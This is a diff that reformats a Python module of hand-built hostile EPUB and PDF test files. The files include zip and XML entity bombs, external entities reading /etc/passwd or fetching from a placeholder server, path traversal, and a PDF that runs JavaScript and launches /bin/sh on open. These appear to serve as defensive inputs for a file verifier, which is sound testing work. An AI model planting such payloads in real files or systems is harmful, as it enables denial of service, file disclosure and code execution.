@@ -1,4 +1,7 @@
-"""Finished files that are none: bombs, names that reach outside, broken and circular structures; written by hand, each small."""
+"""Finished files that are none: bombs, names that reach outside, broken and circular structures.
+
+Written by hand, each small.
+"""
 
 import functools
 import io
@@ -13,8 +16,11 @@ from pikepdf import Array, Dictionary, Name
 from tests.test_hostile import pictures
 from tests.test_verify.foreign import BODY, CONTAINER, METADATA, PROPERTIES, RDF, epub, pdf, zipped
 
-ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
-    f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9)) + "]>"
+ENTITIES = (
+    '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
+    + "".join(f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9))
+    + "]>"
+)
 OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "{file}"><!ENTITY % p SYSTEM "{server}/x.dtd"> %p;]>'
 LINKED = '<link rel="record" href="r.jsonld" media-type="application/ld+json"/>'
 _SYMLINK = (stat.S_IFLNK | 0o777) << 16
@@ -29,7 +35,11 @@ def replaced(**files: bytes) -> bytes:
 
 def with_prolog(prolog: str, title: str) -> bytes:
     """The small EPUB whose package and page begin with these declarations, and say this title."""
-    with zipfile.ZipFile(io.BytesIO(epub(metadata=METADATA.replace("A short book", title), body=f"<p>{title}</p>{BODY}"))) as container:
+    with zipfile.ZipFile(
+        io.BytesIO(
+            epub(metadata=METADATA.replace("A short book", title), body=f"<p>{title}</p>{BODY}")
+        )
+    ) as container:
         files = {name: container.read(name) for name in container.namelist()}
     return zipped(files | {name: prolog.encode() + files[name] for name in ("book.opf", "p.xhtml")})
 
@@ -44,7 +54,12 @@ def duplicates() -> bytes:
     """Two pages of one name, and the first is another."""
     out = io.BytesIO(epub())
     with zipfile.ZipFile(out, "a") as container:
-        container.writestr("q.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title></head><body><p>Another page.</p></body></html>")
+        container.writestr(
+            "q.xhtml",
+            "<html"
+            " xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title></head><body><p>Another"
+            " page.</p></body></html>",
+        )
     return out.getvalue().replace(b"q.xhtml", b"p.xhtml")
 
 
@@ -65,7 +80,7 @@ def lying() -> bytes:
     made = bytearray(epub(more={"z.css": b"ab" * 50_000_000}))
     size = (100_000_000).to_bytes(4, "little")
     while (place := made.find(size)) >= 0:
-        made[place:place + 4] = (100).to_bytes(4, "little")
+        made[place : place + 4] = (100).to_bytes(4, "little")
     return bytes(made)
 
 
@@ -82,7 +97,9 @@ def drawn(change: Callable[[pikepdf.Pdf], None]) -> bytes:
     out = io.BytesIO()
     with pikepdf.open(io.BytesIO(pdf())) as file:
         change(file)
-        file.save(out, fix_metadata_version=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
+        file.save(
+            out, fix_metadata_version=False, stream_decode_level=pikepdf.StreamDecodeLevel.none
+        )
     return out.getvalue()
 
 
@@ -103,7 +120,9 @@ def looping_structure(file: pikepdf.Pdf) -> None:
 
 
 def looping_forms(file: pikepdf.Pdf) -> None:
-    form = file.make_stream(b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9]))
+    form = file.make_stream(
+        b"/X Do", Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9])
+    )
     form.Resources = Dictionary(XObject=Dictionary(X=form))
     file.pages[0].Resources.XObject = Dictionary(X=form)
     file.pages[0].Contents = file.make_stream(b"/X Do " * 1000)
@@ -125,7 +144,8 @@ def a_gigabyte_unpacked(file: pikepdf.Pdf) -> None:
     stream = pikepdf.Stream(file, b"")
     stream.write(a_gigabyte(), filter=Name.FlateDecode)
     file.Root.Metadata = file.make_indirect(stream)
-    file.Root.Metadata.Type, file.Root.Metadata.Subtype = Name("/Metadatx"), Name.XML  # a packet would be written unpacked
+    # a packet would be written unpacked
+    file.Root.Metadata.Type, file.Root.Metadata.Subtype = Name("/Metadatx"), Name.XML
 
 
 def unpacked_page(file: pikepdf.Pdf) -> None:
@@ -139,7 +159,15 @@ def unpacked_attachment(file: pikepdf.Pdf) -> None:
     bomb = file.Root.Metadata
     bomb.Type, bomb.Subtype = Name.EmbeddedFile, Name("/application/ld+json")
     name = pikepdf.String("record.jsonld")
-    spec = file.make_indirect(Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=bomb, UF=bomb), AFRelationship=Name.Supplement))
+    spec = file.make_indirect(
+        Dictionary(
+            Type=Name.Filespec,
+            F=name,
+            UF=name,
+            EF=Dictionary(F=bomb, UF=bomb),
+            AFRelationship=Name.Supplement,
+        )
+    )
     del file.Root.Metadata
     file.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([name, spec])))
     file.Root.AF = Array([spec])
@@ -149,13 +177,17 @@ def packed_twice(file: pikepdf.Pdf) -> None:
     a_gigabyte_unpacked(file)
     bomb = file.Root.Metadata
     twice = pikepdf.Stream(file, b"")
-    twice.write(zlib.compress(bomb.read_raw_bytes()), filter=Array([Name.FlateDecode, Name.FlateDecode]))
+    twice.write(
+        zlib.compress(bomb.read_raw_bytes()), filter=Array([Name.FlateDecode, Name.FlateDecode])
+    )
     file.pages[0].Contents = file.make_indirect(twice)
     del file.Root.Metadata
 
 
 def a_million_words(file: pikepdf.Pdf) -> None:
-    file.pages[0].Contents = file.make_stream(b"BT /F1 9 Tf 20 500 Td " + b"(x)Tj " * 1_000_000 + b"ET")
+    file.pages[0].Contents = file.make_stream(
+        b"BT /F1 9 Tf 20 500 Td " + b"(x)Tj " * 1_000_000 + b"ET"
+    )
 
 
 def huge_pages(file: pikepdf.Pdf) -> None:
@@ -163,13 +195,26 @@ def huge_pages(file: pikepdf.Pdf) -> None:
 
 
 def huge_picture(file: pikepdf.Pdf) -> None:
-    image = pikepdf.Stream(file, b"\0", Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=8, ColorSpace=Name.DeviceRGB)
+    image = pikepdf.Stream(
+        file,
+        b"\0",
+        Type=Name.XObject,
+        Subtype=Name.Image,
+        Width=60_000,
+        Height=60_000,
+        BitsPerComponent=8,
+        ColorSpace=Name.DeviceRGB,
+    )
     file.pages[0].Resources.XObject = Dictionary(I=file.make_indirect(image))
-    file.pages[0].Contents = Array([file.pages[0].Contents, file.make_stream(b"q 300 0 0 300 0 0 cm /I Do Q")])
+    file.pages[0].Contents = Array(
+        [file.pages[0].Contents, file.make_stream(b"q 300 0 0 300 0 0 cm /I Do Q")]
+    )
 
 
 def running(file: pikepdf.Pdf) -> None:
-    file.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.launchURL('{server}/js')"))
+    file.Root.OpenAction = Dictionary(
+        S=Name.JavaScript, JS=pikepdf.String("app.launchURL('{server}/js')")
+    )
     file.Root.AA = Dictionary(WC=Dictionary(S=Name.Launch, F=pikepdf.String("/bin/sh")))
     file.Root.AcroForm = Dictionary(XFA=file.make_stream(b"<x/>"), Fields=Array())
 
@@ -183,10 +228,16 @@ def locked() -> bytes:
 
 FILES: dict[str, Callable[[], bytes]] = {
     "a zip bomb.epub": lambda: epub(more={"zeros.xhtml": bytes(300 * 2**20)}),
-    "many bombs.epub": lambda: epub(more={f"z{number}.css": b"a" * 200_000 + bytes(900_000) for number in range(40)}),
-    "a bomb in a page.epub": lambda: replaced(p_xhtml=b"<html xmlns='http://www.w3.org/1999/xhtml'><body>" + b"<i/>" * 50_000_000),
+    "many bombs.epub": lambda: epub(
+        more={f"z{number}.css": b"a" * 200_000 + bytes(900_000) for number in range(40)}
+    ),
+    "a bomb in a page.epub": lambda: replaced(
+        p_xhtml=b"<html xmlns='http://www.w3.org/1999/xhtml'><body>" + b"<i/>" * 50_000_000
+    ),
     "a page of small things.epub": many_words,
-    "a page of many tags.epub": lambda: epub(body=BODY + "".join(f"<b>{number:x}</b>" for number in range(600_000))),
+    "a page of many tags.epub": lambda: epub(
+        body=BODY + "".join(f"<b>{number:x}</b>" for number in range(600_000))
+    ),
     "a member that lies.epub": lying,
     "an archive in an archive.epub": nested,
     "a path outside.epub": lambda: epub(more={"../../outside.xhtml": b"x"}),
@@ -196,42 +247,93 @@ FILES: dict[str, Callable[[], bytes]] = {
     "a link to a file.epub": symlinks,
     "two of one name.epub": duplicates,
     "control characters in names.epub": lambda: epub(more={"a\nb\x1b[31m.xhtml": b"x"}),
-    "a spine that leads outside.epub": lambda: zipped({
-        "META-INF/container.xml": b'<container><rootfiles><rootfile full-path="../../../etc/passwd"/></rootfiles></container>'}),
-    "a page outside.epub": lambda: replaced(book_opf=(
-        b'<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest><item id="p" href="../../../../etc/passwd" '
-        b'media-type="application/xhtml+xml"/></manifest><spine><itemref idref="p"/></spine></package>')),
+    "a spine that leads outside.epub": lambda: zipped(
+        {
+            "META-INF/container.xml": (
+                b"<container><rootfiles><rootfile"
+                b' full-path="../../../etc/passwd"/></rootfiles></container>'
+            )
+        }
+    ),
+    "a page outside.epub": lambda: replaced(
+        book_opf=(
+            b'<package xmlns="http://www.idpf.org/2007/opf"'
+            b' version="3.0"><metadata/><manifest><item id="p" href="../../../../etc/passwd"'
+            b' media-type="application/xhtml+xml"/></manifest><spine><itemref'
+            b' idref="p"/></spine></package>'
+        )
+    ),
     "entities.epub": lambda: with_prolog(ENTITIES, "&j;"),
     "an outside entity.epub": lambda: with_prolog(OUTSIDE, "&e;"),
-    "a container of entities.epub": lambda: zipped({"META-INF/container.xml": (OUTSIDE + CONTAINER).encode(), "book.opf": b"<package/>"}),
+    "a container of entities.epub": lambda: zipped(
+        {"META-INF/container.xml": (OUTSIDE + CONTAINER).encode(), "book.opf": b"<package/>"}
+    ),
     "deep nesting.epub": lambda: epub(body=BODY + "<div>" * 10_000 + "deep" + "</div>" * 10_000),
     "a deep package.epub": lambda: epub(metadata=METADATA + "<meta>" * 10_000 + "</meta>" * 10_000),
-    "a deep record.epub": lambda: epub(metadata=METADATA + LINKED, more={"r.jsonld": b"[" * 100_000}),
-    "a record of one number.epub": lambda: epub(metadata=METADATA + LINKED, more={"r.jsonld": b'{"@graph": [' + b"9" * 100_000 + b"]}"}),
-    "a record of megabytes.epub": lambda: epub(metadata=METADATA + LINKED, more={
-        "r.jsonld": b'{"@graph": [' + b",".join(b"{}," * 60 + b"%d" % number for number in range(100_000)) + b"]}"}),
-    "a record outside.epub": lambda: epub(metadata=METADATA + LINKED.replace("r.jsonld", "../../../../etc/passwd")),
-    "a sheet that imports itself.epub": lambda: epub(css="@import 'p.css';", more={"p.css": b"@import 'p.css'; @import url({server}/x.css);"}),
-    "a sheet of selectors.epub": lambda: epub(css=":is(" * 3000 + "p" + ")" * 3000 + "{display:none}" + "*>*~*+* *:not(a):nth-child(3n+1){color:white}"),
-    "a gigapixel picture.epub": lambda: epub(body=BODY + '<p><img src="g.png" alt="g"/></p>', more={"g.png": pictures.png()}),
+    "a deep record.epub": lambda: epub(
+        metadata=METADATA + LINKED, more={"r.jsonld": b"[" * 100_000}
+    ),
+    "a record of one number.epub": lambda: epub(
+        metadata=METADATA + LINKED, more={"r.jsonld": b'{"@graph": [' + b"9" * 100_000 + b"]}"}
+    ),
+    "a record of megabytes.epub": lambda: epub(
+        metadata=METADATA + LINKED,
+        more={
+            "r.jsonld": (
+                b'{"@graph": ['
+                + b",".join(b"{}," * 60 + b"%d" % number for number in range(100_000))
+                + b"]}"
+            )
+        },
+    ),
+    "a record outside.epub": lambda: epub(
+        metadata=METADATA + LINKED.replace("r.jsonld", "../../../../etc/passwd")
+    ),
+    "a sheet that imports itself.epub": lambda: epub(
+        css="@import 'p.css';", more={"p.css": b"@import 'p.css'; @import url({server}/x.css);"}
+    ),
+    "a sheet of selectors.epub": lambda: epub(
+        css=":is(" * 3000
+        + "p"
+        + ")" * 3000
+        + "{display:none}"
+        + "*>*~*+* *:not(a):nth-child(3n+1){color:white}"
+    ),
+    "a gigapixel picture.epub": lambda: epub(
+        body=BODY + '<p><img src="g.png" alt="g"/></p>', more={"g.png": pictures.png()}
+    ),
     "a cut archive.epub": lambda: epub()[:600],
-    "an encrypted member.epub": lambda: epub().replace(b"PK\x03\x04\x14\0\0", b"PK\x03\x04\x14\0\x01").replace(
-        b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\x01"),
+    "an encrypted member.epub": (
+        lambda: (
+            epub()
+            .replace(b"PK\x03\x04\x14\0\0", b"PK\x03\x04\x14\0\x01")
+            .replace(b"PK\x01\x02\x14\x03\x14\0\0", b"PK\x01\x02\x14\x03\x14\0\x01")
+        )
+    ),
     "only a head.epub": lambda: b"PK\x03\x04",
     "a text.epub": lambda: b"words\n",
     "nothing.epub": lambda: b"",
-    "a broken xref.pdf": lambda: pdf().replace(b"startxref", b"startxxxx").replace(b"xref", b"xxxx"),
+    "a broken xref.pdf": (
+        lambda: pdf().replace(b"startxref", b"startxxxx").replace(b"xref", b"xxxx")
+    ),
     "a cut file.pdf": lambda: pdf()[:700],
-    "entities in the packet.pdf": lambda: pdf(rdf=ENTITIES.replace("{", "{{").replace("}", "}}") + RDF, properties=PROPERTIES.replace("A short book", "&j;")),
-    "an entity outside in the packet.pdf": lambda: pdf(rdf='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + RDF,
-                                                       properties=PROPERTIES.replace("A short book", "&e;")),
+    "entities in the packet.pdf": lambda: pdf(
+        rdf=ENTITIES.replace("{", "{{").replace("}", "}}") + RDF,
+        properties=PROPERTIES.replace("A short book", "&j;"),
+    ),
+    "an entity outside in the packet.pdf": lambda: pdf(
+        rdf='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + RDF,
+        properties=PROPERTIES.replace("A short book", "&e;"),
+    ),
     "a packet of nothing.pdf": lambda: pdf(rdf="{}", properties="<<<<"),
     "looping pages.pdf": lambda: drawn(looping_pages),
     "a looping outline.pdf": lambda: drawn(looping_outline),
     "a looping structure.pdf": lambda: drawn(looping_structure),
     "looping forms.pdf": lambda: drawn(looping_forms),
     "looping names.pdf": lambda: drawn(looping_names),
-    "a gigabyte of packet.pdf": lambda: drawn(a_gigabyte_unpacked).replace(b"/Metadatx", b"/Metadata"),
+    "a gigabyte of packet.pdf": (
+        lambda: drawn(a_gigabyte_unpacked).replace(b"/Metadatx", b"/Metadata")
+    ),
     "a gigabyte of page.pdf": lambda: drawn(unpacked_page),
     "a gigabyte of record.pdf": lambda: drawn(unpacked_attachment),
     "packed twice.pdf": lambda: drawn(packed_twice),
